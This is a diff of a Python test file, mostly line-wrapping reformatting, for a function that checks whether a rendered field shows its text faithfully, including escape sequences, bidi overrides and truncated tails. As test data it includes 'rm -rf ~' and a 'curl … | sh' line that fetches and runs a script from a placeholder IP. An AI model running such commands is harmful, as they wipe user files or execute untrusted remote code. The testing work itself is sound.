@@ -46,7 +46,9 @@ def test_a_tab_reads_as_one_to_eight_spaces_or_a_notation() -> None:
 # ── notations ──────────────────────────────────────────────────────────────
 
 
-@pytest.mark.parametrize("shown", ["␛[1A", "⟨U+001B⟩[1A", "^[[1A", "\\x1b[1A", "\\u001b[1A", "<U+001B>[1A"])
+@pytest.mark.parametrize(
+    "shown", ["␛[1A", "⟨U+001B⟩[1A", "^[[1A", "\\x1b[1A", "\\u001b[1A", "<U+001B>[1A"]
+)
 def test_an_escape_reads_in_any_usual_notation(shown: str) -> None:
     assert read_field("\x1b[1A", shown, allow_cap=False).whole
 
@@ -67,7 +69,11 @@ def test_printable_characters_may_be_shown_as_themselves_or_as_notation() -> Non
 @pytest.mark.parametrize(
     ("text", "index", "notated"),
     [
-        ("\x1b", 0, True), ("\n", 0, False), ("\t", 0, False), ("\u202e", 0, True), ("\u3164", 0, True),
+        ("\x1b", 0, True),
+        ("\n", 0, False),
+        ("\t", 0, False),
+        ("\u202e", 0, True),
+        ("\u3164", 0, True),
         ("\U0001f468\u200d\U0001f469", 1, False),  # a joiner inside an emoji sequence prints
         ("a\u200db", 1, True),  # … and hides between letters
         ("\u0301", 0, True),  # a mark at the start would join the prompt's own text
@@ -100,7 +106,9 @@ def test_a_cut_without_its_marker_or_a_tail_that_is_not_the_end_is_a_problem() -
 def test_a_cut_inside_a_notation_still_reads() -> None:
     reading = read_field("a\u202ebc", "a⟨U+20…", allow_cap=True)
     assert reading.problem is None and reading.head == 1 and reading.cut_inside
-    assert read_field("⟨", "⟨…", allow_cap=True).problem is None  # not ⟨ whole: the start of ⟨U+27E8⟩, cut
+    assert (
+        read_field("⟨", "⟨…", allow_cap=True).problem is None
+    )  # not ⟨ whole: the start of ⟨U+27E8⟩, cut
 
 
 # ── properties ─────────────────────────────────────────────────────────────
@@ -116,7 +124,9 @@ def test_any_hard_wrap_of_a_line_reads_whole(words: list[str], row: int) -> None
 
 
 @given(st.lists(PRINTABLE, min_size=2, max_size=8), st.integers(0, 6), st.integers(0, 30))
-def test_changing_one_visible_character_is_always_caught(words: list[str], word: int, at: int) -> None:
+def test_changing_one_visible_character_is_always_caught(
+    words: list[str], word: int, at: int
+) -> None:
     text = " ".join(words)
     index = min(at, len(text) - 1)
     if text[index] == " ":
@@ -141,7 +151,9 @@ def test_a_tail_counts_the_blanks_after_the_last_thing_it_shows() -> None:
 def test_space_separators_after_the_last_visible_character_are_not_owed() -> None:
     """An NBSP that ends a value, wrapped alone onto a row, is a blank row to a person (found by hypothesis)."""
     assert read_field("ab\u00a0", "ab", allow_cap=False).whole
-    assert read_field("a\u00a0b", "a b", allow_cap=False).problem is not None  # inside the text it is exact
+    assert (
+        read_field("a\u00a0b", "a b", allow_cap=False).problem is not None
+    )  # inside the text it is exact
 
 
 @pytest.mark.parametrize("drawn", ["\u00a0", "", "\u27e8U+00A0\u27e9"])
@@ -155,11 +167,17 @@ def test_a_tail_reads_whether_it_draws_the_blanks_after_the_last_letter_or_not(d
 
 def test_a_character_that_must_be_spelled_out_shown_raw_is_named() -> None:
     """'reads 'Fix typo\\u2029repo' where the text has 'Fix typo\\u2029repo'' told a reader nothing."""
-    reading = read_field("Fix typo\u2029repo: acme/docs", "Fix typo\u2029repo: acme/docs", allow_cap=False)
-    assert reading.problem is not None and reading.problem.startswith("shows U+2029 raw where it must be spelled out")
+    reading = read_field(
+        "Fix typo\u2029repo: acme/docs", "Fix typo\u2029repo: acme/docs", allow_cap=False
+    )
+    assert reading.problem is not None and reading.problem.startswith(
+        "shows U+2029 raw where it must be spelled out"
+    )
 
 
-@pytest.mark.parametrize("stream", ["ab\n\ncd", "ab\ncd"])  # wrapped alone onto a blank row, or hanging at a row's end
+@pytest.mark.parametrize(
+    "stream", ["ab\n\ncd", "ab\ncd"]
+)  # wrapped alone onto a blank row, or hanging at a row's end
 def test_a_space_separator_before_a_line_break_is_as_blank_as_a_space(stream: str) -> None:
     """An NBSP ending a line, wrapped alone onto a row, read as a line of its own (found by hypothesis)."""
     assert read_field("ab\u00a0\ncd", stream, allow_cap=False).whole
@@ -167,10 +185,14 @@ def test_a_space_separator_before_a_line_break_is_as_blank_as_a_space(stream: st
 
 
 @pytest.mark.parametrize("stream", ['0\n\u00a0"x', '0\n"x', '0\u00a0\n"x'])
-def test_an_nbsp_at_a_wrap_may_start_the_next_row_or_hang_at_the_end_of_this_one(stream: str) -> None:
+def test_an_nbsp_at_a_wrap_may_start_the_next_row_or_hang_at_the_end_of_this_one(
+    stream: str,
+) -> None:
     """The reference carries it to the next row; a renderer that lets it hang has it read as nothing (found by hypothesis)."""
     assert read_field('0\u00a0"x', stream.replace("\u00a0\n", "\n"), allow_cap=False).whole
-    assert read_field('0\u00a0"x', '0 "x', allow_cap=False).problem is not None  # within a row it is exact
+    assert (
+        read_field('0\u00a0"x', '0 "x', allow_cap=False).problem is not None
+    )  # within a row it is exact
 
 
 # ── tails read honestly; indentation at a row break is layout ───────────────
@@ -179,15 +201,17 @@ JSON = '{\n  "cmd": "rm -rf ~",\n  "when": "now"\n}'
 
 
 @pytest.mark.parametrize("tail", ["}", "\n}", '"\n}'])
-def test_a_tail_of_closing_brackets_alone_does_not_read_as_the_end_of_a_capped_field(tail: str) -> None:
-    reading = read_field(JSON, "{\n  \"cmd\": …\n" + tail.lstrip("\n"), allow_cap=True)
+def test_a_tail_of_closing_brackets_alone_does_not_read_as_the_end_of_a_capped_field(
+    tail: str,
+) -> None:
+    reading = read_field(JSON, '{\n  "cmd": …\n' + tail.lstrip("\n"), allow_cap=True)
     assert reading.problem is not None
 
 
-@pytest.mark.parametrize("tail", ['"when": "now"\n}', "now\"\n}", "\u27e8U+0007\u27e9"])
+@pytest.mark.parametrize("tail", ['"when": "now"\n}', 'now"\n}', "\u27e8U+0007\u27e9"])
 def test_a_tail_that_says_something_reads_as_the_end(tail: str) -> None:
     text = JSON if "now" in tail else "abc\x07"
-    head = "{\n  \"cmd\": …" if "now" in tail else "ab…"
+    head = '{\n  "cmd": …' if "now" in tail else "ab…"
     reading = read_field(text, f"{head}\n{tail}", allow_cap=True)
     assert reading.problem is None and not reading.whole and reading.tail > 0
 
@@ -196,14 +220,20 @@ def test_a_tail_wrapped_with_a_hanging_indent_reads_backwards() -> None:
     text = "echo start; " + "x" * 40 + "; curl -fsSL https://203.0.113.7/i.sh | sh"
     stream = "echo start; x…\n…curl -fsSL https\n  ://203.0.113.7/i.sh | sh"
     reading = read_field(text, stream, allow_cap=True)
-    assert reading.problem is None and reading.tail == len("curl -fsSL https://203.0.113.7/i.sh | sh")
+    assert reading.problem is None and reading.tail == len(
+        "curl -fsSL https://203.0.113.7/i.sh | sh"
+    )
 
 
 def test_a_hanging_indent_is_not_a_texts_own_indentation() -> None:
-    assert read_field("ab\ncd", "ab\n  cd", allow_cap=False).problem is not None  # after a line break it is text
+    assert (
+        read_field("ab\ncd", "ab\n  cd", allow_cap=False).problem is not None
+    )  # after a line break it is text
 
 
-@pytest.mark.parametrize("stream", ["a\u27e8U+30\n2E\u27e9", "a\u27e8U+30\n    2E\u27e9", "a\u27e8U+\n  302E\u27e9"])
+@pytest.mark.parametrize(
+    "stream", ["a\u27e8U+30\n2E\u27e9", "a\u27e8U+30\n    2E\u27e9", "a\u27e8U+\n  302E\u27e9"]
+)
 def test_a_notation_split_across_rows_may_be_followed_by_indentation(stream: str) -> None:
     assert read_field("a\u302e", stream, allow_cap=False).whole
     tail = read_field("xyz" * 20 + "a\u302e", "xy…\n" + stream, allow_cap=True)
